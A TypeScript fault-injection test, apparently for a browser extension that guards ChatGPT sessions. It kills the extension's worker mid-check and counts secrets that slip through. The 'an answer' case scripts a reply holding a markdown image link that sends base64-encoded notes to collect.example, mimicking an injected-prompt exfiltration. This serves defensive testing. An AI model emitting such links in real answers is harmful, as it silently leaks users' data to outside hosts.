/** Kills the background worker at one point of a check, and looks what has become of the message. */
import { ACCESS_KEY, CLIENT, KEY_PROMPT } from "../../tour/values";
import { CHATGPT } from "../../../test/support/chat-page";
import { bodyOf, relayCall } from "../../../test/support/relay";
import { pause } from "../../../test/support/wait-for";
import type { Bench } from "./bench";
import type { Seen } from "./judge";
import type { Doing, Point } from "./points";
import { answers, evaluate, textOf, type FaultTab } from "./tab";
import { arrivals, lostOf, send, stillAnswers, untilRest, wasUnchecked, type Rest } from "./user";

const PROMPT = "/backend-api/f/conversation";
/** From the first key on, on a machine that has other things to do as well. */
const REACHED_MS = 60_000;
/** A file is judged while its page does nothing. */
const MOST_RESTS = 8;
const ACCOUNT_PROMPT = `Write a friendly reminder that the money goes to ${CLIENT.iban} before Friday.`;
/** What a planted instruction would make an answer carry away. */
const CARRIED = "bWVldGluZyBub3RlcyBvZiB0aGUgbmV3IHdhcmVob3VzZSBhbmQgaXRzIGJ1ZGdldA";
const LEAKING = `Here it is. ![](https://collect.example/p.png?d=${CARRIED}) Done.`;

/** What the user does, and what must be kept and must not pass by it. */
interface Work {
  readonly written: string;
  readonly secrets: readonly string[];
  run(page: FaultTab): Promise<Rest>;
  /** What an answer carried away to its page, if that is what matters. */
  readonly leaks?: () => number;
}

export async function killAt(bench: Bench, point: Point): Promise<Seen> {
  const { chat } = bench;
  const fault = `worker killed: ${point.name}`;
  chat.clear();
  await bench.freezeAt(point.place);
  const page = await bench.open();
  const { written, secrets, run, leaks } = WORK[point.doing](bench);
  const [reached, rest] = await Promise.all([
    bench.untilFrozen(REACHED_MS).then(
      () => bench.kill(),
      () => false,
    ),
    run(page),
  ]);
  await pause(200); // what was let go by the fault arrives
  const lost = lostOf(written, rest, chat);
  const silentPasses = arrivals(chat, secrets) + (leaks?.() ?? 0);
  const answersStill = rest.rested && (await stillAnswers(page, chat));
  await page.close();
  return {
    fault,
    happened: reached,
    lostWords: lost,
    silentPasses,
    hungPages: answersStill ? 0 : 1,
    ...(point.hole === undefined ? {} : { hole: point.hole }),
    note: describeRest(rest),
  };
}

const WORK: Readonly<Record<Doing, (bench: Bench) => Work>> = {
  "a key": () => message(KEY_PROMPT, ACCESS_KEY, "nothing"),
  "an account": () => message(ACCOUNT_PROMPT, CLIENT.iban, "safe"),
  "a file": () => ({
    written: "",
    secrets: [ACCESS_KEY],
    async run(page) {
      await page.chooseFile("#upload-files", {
        name: "settings.txt",
        text: `region = eu-central-1\naws_access_key_id = ${ACCESS_KEY}\n`,
      });
      for (let nth = 0; ; nth++) {
        const rest = await untilRest(page, 0, "nothing");
        const ended = !/…$/u.test(await textOf(page, "#attachments span"));
        if (ended || nth > MOST_RESTS) return { ...rest, rested: rest.rested && ended };
      }
    },
  }),
  "an account, read back": () => {
    const sending = message(ACCOUNT_PROMPT, CLIENT.iban, "safe");
    return {
      ...sending,
      async run(page) {
        const rest = await sending.run(page);
        await page.click(".prose");
        await page.press("Alt+ArrowDown");
        return rest;
      },
    };
  },
  "an answer": ({ chat }) => {
    let answer = "";
    return {
      written: "",
      secrets: [],
      async run(page) {
        chat.script("leak", { type: "text/event-stream", pieces: [`data: ${LEAKING}\n\n`] });
        answer = await evaluate(
          page,
          async (path) => {
            const body = JSON.stringify({ messages: [{ content: { parts: ["Good morning"] } }] });
            const response = await fetch(`${path}?script=leak`, { method: "POST", body });
            return response.text();
          },
          PROMPT,
        );
        return untilRest(page, 0, "nothing");
      },
      leaks: () => (answer.includes(CARRIED) ? 1 : 0),
    };
  },
  "a worker of the page": () => ({
    written: "",
    secrets: [CLIENT.iban],
    async run(page) {
      const message = { url: new URL(PROMPT, CHATGPT).href, body: bodyOf(ACCOUNT_PROMPT) };
      await page.ask(relayCall("dedicated", message));
      return untilRest(page, 0, "nothing");
    },
  }),
};

function message(text: string, secret: string, wants: "safe" | "nothing"): Work {
  return {
    written: text,
    secrets: [secret],
    async run(page) {
      const before = await answers(page);
      await send(page, text);
      return untilRest(page, before, wants);
    },
  };
}

function describeRest(rest: Rest): string {
  if (!rest.rested) return "did not come to rest";
  const asked = rest.dialogs.length;
  const where = rest.composer === "" ? "" : "text back in the composer";
  return [asked > 0 ? `asked ${asked} ×` : "", wasUnchecked(rest) ? "fallback: asked" : "", where]
    .filter((part) => part !== "")
    .join(", ");
}
